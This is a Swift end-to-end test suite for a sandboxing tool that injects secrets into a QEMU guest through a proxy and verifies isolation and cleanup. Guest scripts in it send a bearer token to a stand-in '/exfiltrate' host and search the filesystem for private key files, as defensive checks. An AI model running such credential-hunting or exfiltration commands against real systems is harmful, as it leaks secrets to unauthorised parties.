import Foundation
import Testing

/// `keyhole run` boots the builtin guest (TCG here) on a TAP in the appliance namespace,
/// which routes to an "internet" namespace with dnsmasq and real TLS servers.
@Suite("Launcher end to end", .serialized, .enabled(if: isRoot, "needs root for namespaces, TAP and QEMU"))
struct LauncherEndToEndTests {
    static let realValue = "launcher-real-token-0005"
    /// One state directory (CA and builtin image cache) for every test of the suite.
    static let state = "/tmp/keyhole-e2e-launcher-state"

    static func policy(_ harness: ProxyHarness, violation: String = "block-and-log") -> String {
        """
        version: 1
        name: lt\(harness.shortID)
        secrets:
          - env: TOKEN
            value: "\(realValue)"
            allow_hosts: [api.example.test]
        network:
          on_secret_violation: \(violation)
          upstream_ca: [\(harness.directory)/upca.pem]
        guest:
          image: builtin
          memory_mib: 256
          env: { FOO: bar }
        """
    }

    /// The builtin image is built once, in the host namespace (where Debian's mirrors are).
    static let image: Result<Void, HarnessError> = {
        let build = try? CLI.run(["image", "build", "--state-dir", state])
        guard let build, build.status == 0 else { return .failure(.command("keyhole image build", build?.stderr ?? "did not run")) }
        return .success(())
    }()

    struct Run {
        let process: Process
        let stdout: String
        let stderr: String
    }

    /// Starts `keyhole run` in the appliance namespace; stdout/stderr go to files (appended).
    func start(_ harness: ProxyHarness, policy: String, command: [String]) throws -> Run {
        try Self.image.get()
        let path = harness.directory + "/run.yaml"
        try policy.write(toFile: path, atomically: true, encoding: .utf8)
        let out = harness.directory + "/run.out", err = harness.directory + "/run.err"
        let arguments = ["ip", "netns", "exec", harness.applianceNamespace, CLI.binary, "run", "--state-dir", Self.state,
                         "--audit-log", harness.auditLog, path, "--"] + command
        let line = "exec " + arguments.map(harness.shellQuote).joined(separator: " ") + " >>\(out) 2>>\(err)"
        let process = try harness.spawn("/bin/sh", ["-c", line], stdout: harness.directory + "/run.sh.out")
        harness.processes.append(process)
        return Run(process: process, stdout: out, stderr: err)
    }

    func wait(_ run: Run, seconds: Double = 120) -> Int32? {
        let deadline = Date().addingTimeInterval(seconds)
        while run.process.isRunning, Date() < deadline { usleep(50_000) }
        return run.process.isRunning ? nil : run.process.terminationStatus
    }

    func text(_ path: String) -> String { (try? String(contentsOfFile: path, encoding: .utf8)) ?? "" }

    /// No TAP, no Keyhole table or queue chain, no QEMU left in the appliance namespace.
    func expectCleanedUp(_ harness: ProxyHarness, rulesBefore: String) throws {
        let links = try harness.appliance("ip -o link show type tun").stdout
        #expect(links.isEmpty, "TAP left behind: \(links)")
        let rules = try harness.appliance("nft list ruleset; iptables-nft-save | grep -v '^#'").stdout
        #expect(rules == rulesBefore)
        let qemu = try harness.appliance("ip netns pids \(harness.applianceNamespace) | xargs -r ps -o comm= -p").stdout
        #expect(!qemu.contains("qemu"), "\(qemu)")
    }

    @Test func theGuestCallsTheAPIWithAPlaceholderAndNeverSeesTheRealValueOrTheCAKey() throws {
        let harness = try ProxyHarness(mode: .launcher)
        defer { harness.close() }
        let log = try harness.upstream("203.0.113.10", port: 443, cert: "api.example.test")
        let before = try harness.appliance("nft list ruleset; iptables-nft-save | grep -v '^#'").stdout
        let script = """
            env | sort
            echo "== api"
            curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" https://api.example.test/from-guest
            echo "== python"
            python3 -c 'import urllib.request,os; r=urllib.request.Request("https://api.example.test/py", headers={"X-Key": os.environ["TOKEN"]}); print(urllib.request.urlopen(r, timeout=20).read().decode().strip())'
            echo "== files"
            cat /keyhole/env /keyhole/net /keyhole/ca.pem /etc/resolv.conf
            find / -xdev \\( -name '*.key' -o -name 'ca-key*' \\) 2>/dev/null
            grep -rl 'PRIVATE KEY' /keyhole /etc /root /tmp 2>/dev/null
            echo to-stderr >&2
            exit 7
            """
        let run = try start(harness, policy: Self.policy(harness), command: ["sh", "-c", script])
        let status = wait(run)
        let out = text(run.stdout), err = text(run.stderr)
        #expect(status == 7, "stdout:\n\(out)\nstderr:\n\(err)")
        // The environment: placeholders, plain env, CA trust; never the real value.
        #expect(out.contains("TOKEN=$MSB_TOKEN"))
        #expect(out.contains("FOO=bar"))
        #expect(out.contains("SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt"))
        #expect(out.contains("REQUESTS_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt"))
        #expect(out.contains("NODE_EXTRA_CA_CERTS=/keyhole/ca.pem"))
        #expect(!out.contains(Self.realValue) && !err.contains(Self.realValue))
        // The upstream got the real value from curl (header) and python (header).
        #expect(out.contains("== api\nok\n== python\nok\n"), "\(out)\n\(err)")
        let records = harness.records(log)
        #expect(records.count == 2)
        #expect(harness.header(records.first ?? [:], "Authorization") == "Bearer \(Self.realValue)")
        #expect(harness.header(records.last ?? [:], "X-Key") == Self.realValue)
        // The CA key is nowhere in the guest: no key file, and none of its lines in what it got.
        let key = text(Self.state + "/ca.key")
        let keyLines = key.split(separator: "\n").filter { !$0.hasPrefix("-----") }
        #expect(!keyLines.isEmpty)
        for line in keyLines { #expect(!out.contains(line)) }
        #expect(!out.contains("PRIVATE KEY"))
        #expect(out.contains("BEGIN CERTIFICATE"))
        // stderr of the command arrives on keyhole's stderr, not stdout.
        #expect(err.contains("to-stderr") && !out.contains("to-stderr"))
        #expect(!text(harness.auditLog).contains(Self.realValue))
        try expectCleanedUp(harness, rulesBefore: before)
    }

    @Test func blockAndTerminateShutsTheGuestDown() throws {
        let harness = try ProxyHarness(mode: .launcher)
        defer { harness.close() }
        let log = try harness.upstream("203.0.113.11", port: 443, cert: "other.example.test")
        let before = try harness.appliance("nft list ruleset; iptables-nft-save | grep -v '^#'").stdout
        let script = """
            curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" https://other.example.test/exfiltrate
            sleep 60
            echo survived
            """
        let run = try start(harness, policy: Self.policy(harness, violation: "block-and-terminate"), command: ["sh", "-c", script])
        let status = wait(run, seconds: 60)
        let out = text(run.stdout), err = text(run.stderr)
        #expect(status == 4, "stdout:\n\(out)\nstderr:\n\(err)")
        #expect(err.contains("block-and-terminate") && err.contains("TOKEN") && err.contains("other.example.test"), "\(err)")
        #expect(!out.contains("survived"))
        #expect(harness.records(log).isEmpty)
        #expect(text(harness.auditLog).contains("\"level\":\"error\""))
        try expectCleanedUp(harness, rulesBefore: before)
    }

    /// The reference pages' CLI: no policy file, one `--secret ENV@HOST`, the value from the
    /// host's environment.
    @Test func keyholeRunWithSecretFlagsAndNoPolicyFile() throws {
        try Self.image.get()
        let harness = try ProxyHarness(mode: .launcher)
        defer { harness.close() }
        let log = try harness.upstream("203.0.113.10", port: 443, cert: "api.example.test")
        let before = try harness.appliance("nft list ruleset; iptables-nft-save | grep -v '^#'").stdout
        let script = """
            echo "TOKEN=$TOKEN"
            curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" https://api.example.test/flags
            """
        let out = harness.directory + "/flags.out", err = harness.directory + "/flags.err"
        let arguments = [
            "ip", "netns", "exec", harness.applianceNamespace, "env", "TOKEN=\(Self.realValue)", CLI.binary, "run", "--state-dir", Self.state,
            "--audit-log", harness.auditLog, "--name", "lf\(harness.shortID)", "--secret", "TOKEN@api.example.test",
            "--upstream-ca", harness.directory + "/upca.pem", "--on-secret-violation", "block-and-log", "--memory", "256", "--", "sh", "-c", script,
        ]
        let line = "exec " + arguments.map(harness.shellQuote).joined(separator: " ") + " >\(out) 2>\(err)"
        let process = try harness.spawn("/bin/sh", ["-c", line], stdout: harness.directory + "/flags.sh.out")
        harness.processes.append(process)
        let status = wait(Run(process: process, stdout: out, stderr: err))
        let stdout = text(out), stderr = text(err)
        #expect(status == 0, "stdout:\n\(stdout)\nstderr:\n\(stderr)")
        #expect(stdout.contains("TOKEN=$MSB_TOKEN\nok"), "\(stdout)\n\(stderr)")
        #expect(harness.header(harness.records(log).first ?? [:], "Authorization") == "Bearer \(Self.realValue)")
        for text in [stdout, stderr, text(harness.auditLog)] { #expect(!text.contains(Self.realValue)) }
        try expectCleanedUp(harness, rulesBefore: before)
    }

    /// The VM's curl speaks HTTP/2 through `keyhole run` to an HTTP/2 upstream (the builtin
    /// image has no gRPC library; grpcio runs against a namespace guest in
    /// HTTP2EndToEndTests, through the same `GuardedInterface`).
    @Test func theGuestSpeaksHTTP2ThroughKeyholeRun() throws {
        let harness = try ProxyHarness(mode: .launcher)
        defer { harness.close() }
        let log = try HTTP2EndToEndTests.upstreamH2(harness, "203.0.113.10", cert: "api.example.test")
        let script = """
            curl -sS --http2 --max-time 20 -w ' %{http_version}' -H "Authorization: Bearer $TOKEN" https://api.example.test/vm-h2
            curl -sS --http2 --max-time 20 -w ' %{http_version}' -H "Authorization: Bearer $TOKEN" https://api.example.test/reflect
            """
        let run = try start(harness, policy: Self.policy(harness), command: ["sh", "-c", script])
        let status = wait(run)
        let out = text(run.stdout), err = text(run.stderr)
        #expect(status == 0, "stdout:\n\(out)\nstderr:\n\(err)")
        #expect(out.hasPrefix("ok\n 2{\"token\": \"$MSB_TOKEN"), "\(out)\n\(err)")
        #expect(out.hasSuffix(" 2"), "\(out)")
        let records = harness.records(log)
        #expect(records.count == 2)
        #expect(records.allSatisfy { $0["protocol"] as? String == "h2" && harness.header($0, "authorization") == "Bearer \(Self.realValue)" })
        for text in [out, err, text(harness.auditLog)] { #expect(!text.contains(Self.realValue)) }
    }

    @Test func sigintStopsTheGuestAndRemovesTheTAPAndRules() throws {
        let harness = try ProxyHarness(mode: .launcher)
        defer { harness.close() }
        let before = try harness.appliance("nft list ruleset; iptables-nft-save | grep -v '^#'").stdout
        let run = try start(harness, policy: Self.policy(harness), command: ["sh", "-c", "echo guest-up; sleep 120"])
        try harness.waitFor(file: run.stdout, containing: "guest-up", seconds: 90)
        let during = try harness.appliance("ip -o link show type tun; nft list tables").stdout
        #expect(during.contains("keyhole_"), "\(during)")
        kill(run.process.processIdentifier, SIGINT)
        let status = wait(run, seconds: 30)
        #expect(status == 130, "\(text(run.stderr))")
        #expect(text(run.stderr).contains("stopped by SIGINT"))
        try expectCleanedUp(harness, rulesBefore: before)
    }
}
